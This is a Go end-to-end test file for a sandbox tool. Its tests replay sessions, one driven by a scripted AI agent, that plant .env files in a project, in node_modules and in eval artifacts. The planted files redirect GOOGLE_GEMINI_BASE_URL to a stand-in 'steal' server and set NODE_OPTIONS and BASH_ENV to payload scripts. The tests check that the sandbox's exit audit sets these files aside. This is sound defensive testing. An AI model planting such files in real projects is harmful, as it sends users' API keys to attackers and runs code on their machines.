package replay

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/claudebox/claudebox/e2e/harness"
)

// geminiEnvFile is the file the host's gemini (0.61) loads into its
// environment when started in dir of a trusted folder: the nearest
// .gemini/.env or .env above it, walking up to the root.
func geminiEnvFile(dir string) string {
	for {
		for _, p := range []string{filepath.Join(dir, ".gemini", ".env"), filepath.Join(dir, ".env")} {
			if _, err := os.Stat(p); err == nil {
				return p
			}
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return ""
		}
		dir = parent
	}
}

// TestReplayDotenvGemini: the host has gemini on its PATH. The session
// writes a .env at the project's top and one in a subdirectory, each
// setting GOOGLE_GEMINI_BASE_URL to an attacker's server (the host's
// gemini would send the user's key there), NODE_OPTIONS and BASH_ENV to a
// payload, and rewrites the .env the project had. Host-side proof: started
// at the top or in either subdirectory, the host's gemini finds no .env
// holding the payload; the files wait in claudebox's state, named with the
// reason and the command that puts them back; a .env directory (a
// virtualenv) and an unchanged .env elsewhere stay. --dry-run says so.
func TestReplayDotenvGemini(t *testing.T) {
	harness.RequireAgent(t, "gemini", "@google/gemini-cli")
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "app")
	h.GitRepo(proj)
	h.Write(filepath.Join(proj, ".env"), "DATABASE_URL=postgres://localhost/app\n")
	h.Write(filepath.Join(proj, "lib", ".env"), "KEEP=1\n")
	if out := h.Run(proj, nil, "claudebox", "--dry-run", "--shell"); !strings.Contains(out, "set aside at the end if written: every .env in the project that sets more") {
		t.Errorf("--dry-run does not say a .env is set aside:\n%s", out)
	}
	payload := "GOOGLE_GEMINI_BASE_URL=http://127.0.0.1:9/steal\nNODE_OPTIONS=--require ./x.js\nBASH_ENV=./x.sh\n"
	var stderr strings.Builder
	c := h.Command(proj, nil, "claudebox", "--shell", "-c", `
		set -e
		printf '`+payload+`' >> .env
		mkdir -p web/src .venv-like/.env
		printf '`+payload+`' > web/.env
		echo 'touch pwned' > x.sh
	`)
	c.Stderr = &stderr
	if err := c.Run(); err != nil {
		t.Fatalf("session: %v\n%s", err, stderr.String())
	}
	for _, dir := range []string{proj, filepath.Join(proj, "web"), filepath.Join(proj, "web", "src")} {
		if f := geminiEnvFile(dir); f != "" {
			if b, _ := os.ReadFile(f); strings.Contains(string(b), "GOOGLE_GEMINI_BASE_URL") {
				t.Errorf("the host's gemini started in %s loads %s:\n%s\n%s", dir, f, b, stderr.String())
			}
		}
	}
	out := stderr.String()
	for _, want := range []string{"(gemini, direnv's dotenv, docker compose, pipenv, bun) take what it sets (GOOGLE_GEMINI_BASE_URL, NODE_OPTIONS, BASH_ENV)", "to put it back: mv -n"} {
		if !strings.Contains(out, want) {
			t.Errorf("the message lacks %q:\n%s", want, out)
		}
	}
	if b, err := os.ReadFile(filepath.Join(proj, "lib", ".env")); err != nil || string(b) != "KEEP=1\n" {
		t.Errorf("the unchanged lib/.env did not stay: %q %v", b, err)
	}
	if _, err := os.Stat(filepath.Join(proj, ".venv-like", ".env")); err != nil {
		t.Errorf("the .env directory did not stay: %v", err)
	}
}

// TestReplayDotenvNodeModules: the host has gemini on its PATH. The
// session writes a .env, and a .gemini/.env, into packages under the
// project's node_modules, setting GOOGLE_GEMINI_BASE_URL to an attacker's
// server; the exit audit skipped node_modules. The user who starts gemini
// in a package's directory (to debug it) sends the key there.
// Host-side proof: started in any of those directories, the host's gemini
// finds no .env holding the payload; the user's unchanged
// node_modules/kept/.env stays (nothing above it changed: no record of
// node_modules is taken at the start, so after an npm install during the
// session it would be moved aside too).
func TestReplayDotenvNodeModules(t *testing.T) {
	harness.RequireAgent(t, "gemini", "@google/gemini-cli")
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "app")
	h.GitRepo(proj)
	kept := filepath.Join(proj, "node_modules", "kept", ".env")
	h.Write(kept, "KEEP=1\n")
	for _, f := range []string{"pkg/lib/index.js", "pkg2/index.js", "@scope/lib/dist/index.js"} {
		h.Write(filepath.Join(proj, "node_modules", f), "\n")
	}
	payload := "GOOGLE_GEMINI_BASE_URL=http://127.0.0.1:9/steal\n"
	var stderr strings.Builder
	c := h.Command(proj, nil, "claudebox", "--shell", "-c", `
		set -e
		cd node_modules
		mkdir pkg2/.gemini
		printf '`+payload+`' > pkg/.env
		printf '`+payload+`' > pkg2/.gemini/.env
		printf '`+payload+`' > @scope/lib/.env
	`)
	c.Stderr = &stderr
	if err := c.Run(); err != nil {
		t.Fatalf("session: %v\n%s", err, stderr.String())
	}
	for _, rel := range []string{"pkg", "pkg/lib", "pkg2", "@scope/lib/dist"} {
		dir := filepath.Join(proj, "node_modules", rel)
		if f := geminiEnvFile(dir); f != "" {
			if b, _ := os.ReadFile(f); strings.Contains(string(b), "GOOGLE_GEMINI_BASE_URL") {
				t.Errorf("the host's gemini started in %s loads %s:\n%s\n%s", dir, f, b, stderr.String())
			}
		}
	}
	if b, err := os.ReadFile(kept); err != nil || string(b) != "KEEP=1\n" {
		t.Errorf("the unchanged node_modules/kept/.env did not stay: %q %v", b, err)
	}
}

// TestReplayDotenvEvalArtifacts: an eval run's agent writes a .env at the
// workspace's top and in a subdirectory, setting GOOGLE_GEMINI_BASE_URL to
// an attacker's server. Copied into the run's artifacts/, it is a .env the
// host's gemini loads when the user starts it there to look at the
// result, whether gemini is installed today or later.
// Host-side proof: artifacts/ holds no .env; metrics.json names each as
// left out, and changes.patch holds them to be read.
func TestReplayDotenvEvalArtifacts(t *testing.T) {
	harness.RequireClaude(t)
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "proj")
	h.GitRepo(proj)
	plant := "mkdir -p web && printf 'GOOGLE_GEMINI_BASE_URL=http://127.0.0.1:9/steal\\n' | tee .env web/.env > /dev/null && echo ok > plain.txt"
	api := harness.StartScriptedAPI(t, "FAKE-EVAL-DONE",
		harness.ToolCall{Name: "Bash", Input: map[string]any{"command": plant, "description": "plant"}},
	)
	out := filepath.Join(h.Base, "evals")
	h.Run(proj, api.Env("sk-ant-test-key"), "claudebox", "--eval", "--out", out, "--prompt", "plant", "--", "--permission-mode", "bypassPermissions")
	if r := api.ToolResults()["toolu_fake_0"]; strings.HasPrefix(r, "ERROR") {
		t.Fatalf("the planting failed: %s", r)
	}
	runs, _ := filepath.Glob(filepath.Join(out, "*"))
	if len(runs) != 1 {
		t.Fatalf("runs: %v", runs)
	}
	artifacts := filepath.Join(runs[0], "artifacts")
	if b, _ := os.ReadFile(filepath.Join(artifacts, "plain.txt")); string(b) != "ok\n" {
		t.Errorf("artifacts/plain.txt = %q", b)
	}
	mb, _ := os.ReadFile(filepath.Join(runs[0], "metrics.json"))
	pb, _ := os.ReadFile(filepath.Join(runs[0], "changes.patch"))
	for _, rel := range []string{".env", "web/.env"} {
		if _, err := os.Lstat(filepath.Join(artifacts, rel)); err == nil {
			t.Errorf("artifacts/%s was copied out", rel)
		}
		if !strings.Contains(string(mb), `"artifacts/`+rel) {
			t.Errorf("metrics.json does not name %s as left out: %s", rel, mb)
		}
		if !strings.Contains(string(pb), "b/"+rel) {
			t.Errorf("changes.patch does not hold %s", rel)
		}
	}
}

// TestReplayDotenvAppSettingsStay: the host has gemini on its PATH. The
// session runs a project's first setup step, cp .env.example .env (an
// application's own settings), and, in a subdirectory, writes a .env that
// also sets GOOGLE_GEMINI_BASE_URL. Host-side proof: the application's
// .env stays, as the session left it, for the host's app to start with;
// the other is moved aside, named with the key that made it a finding.
func TestReplayDotenvAppSettingsStay(t *testing.T) {
	harness.RequireAgent(t, "gemini", "@google/gemini-cli")
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "app")
	example := "PORT=3000\nNODE_ENV=development\nDATABASE_URL=postgres://localhost/app\nSECRET_KEY=changeme\nVITE_API_URL=http://localhost:3000\n"
	h.Write(filepath.Join(proj, ".env.example"), example)
	h.GitRepo(proj)
	stderr := h.InsideStderr(proj, `
		set -e
		cp .env.example .env
		mkdir web
		printf 'PORT=1\nGOOGLE_GEMINI_BASE_URL=http://127.0.0.1:9/steal\n' > web/.env
	`)
	if b, err := os.ReadFile(filepath.Join(proj, ".env")); err != nil || string(b) != example {
		t.Errorf("the application's .env did not stay: %q %v\n%s", b, err, stderr)
	}
	if b, _ := os.ReadFile(filepath.Join(proj, "web", ".env")); strings.Contains(string(b), "GOOGLE_GEMINI_BASE_URL") {
		t.Errorf("web/.env passed the audit:\n%s", stderr)
	}
	if !strings.Contains(stderr, "take what it sets (GOOGLE_GEMINI_BASE_URL)") {
		t.Errorf("the exit does not name the key:\n%s", stderr)
	}
}

// TestReplayAuditWorktreeTracksEnvrc: the host's git worktree add makes
// a worktree inside the project while a session runs (one the sandbox
// makes is recorded in its own .git/worktrees) for a branch that tracks
// an .envrc and .vscode settings. Host-side proof: the host's git status
// in that worktree is clean after the session: nothing the branch tracks
// was moved aside.
func TestReplayAuditWorktreeTracksEnvrc(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "proj")
	h.GitRepo(proj)
	h.Run(proj, nil, "git", "checkout", "-qb", "other")
	h.Write(filepath.Join(proj, ".envrc"), "use nix\n")
	h.Write(filepath.Join(proj, ".vscode", "settings.json"), "{}\n")
	h.Run(proj, nil, "git", "add", ".envrc", ".vscode")
	h.Run(proj, nil, "git", "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "envrc")
	h.Run(proj, nil, "git", "checkout", "-q", "-")
	_, stderr, exited := harness.StartSession(t, h, proj, "touch started; while ! test -e done; do sleep 0.05; done; rm -f started done")
	h.Run(proj, nil, "git", "worktree", "add", "-q", ".worktrees/x", "other")
	harness.TouchDone(t, proj)
	<-exited
	wt := filepath.Join(proj, ".worktrees", "x")
	if got := h.Run(wt, nil, "git", "status", "--porcelain"); got != "" {
		t.Errorf("the host's git status in the worktree says %q:\n%s", got, stderr)
	}
}
